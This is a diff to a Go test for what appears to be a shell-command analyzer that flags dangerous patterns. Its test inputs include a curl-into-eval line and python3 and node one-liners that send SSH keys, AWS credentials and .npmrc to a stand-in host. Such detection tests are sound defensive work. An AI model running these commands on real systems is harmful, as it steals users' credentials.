@@ -69,7 +69,7 @@ func TestAssignmentsAndFeeders(t *testing.T) {
 		}},
 		{src: `X=$(curl -s x); eval "$X"`, want: []string{"curl -s x", "eval …"}, dyn: []string{"eval|feeders=curl"}},
 		{src: `python3 -c 'import urllib.request,os; urllib.request.urlopen("https://x.io", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())'`,
-			want: []string{"python3 -c import urllib.request,os; urllib.request.urlopen(\"https://x.io\", data=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())", "curl -d … https://x.io ¦ synth", "cat … ¦ synth"}},
+			want: []string{"python3 -c import urllib.request,os; urllib.request.urlopen(\"https://x.io\", data=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())", "curl -d … https://x.io ¦ synth", "cat /home/u/.ssh/id_rsa ¦ synth"}},
 		{src: `python3 -c 'import requests; requests.post("https://x.io", data=open("/home/u/.aws/credentials").read())'`,
 			want: []string{`python3 -c import requests; requests.post("https://x.io", data=open("/home/u/.aws/credentials").read())`, "curl -d … https://x.io", "cat /home/u/.aws/credentials"}},
 		{src: `node -e 'fetch("https://x.io", {method: "POST", body: require("fs").readFileSync("/home/u/.npmrc")})'`,
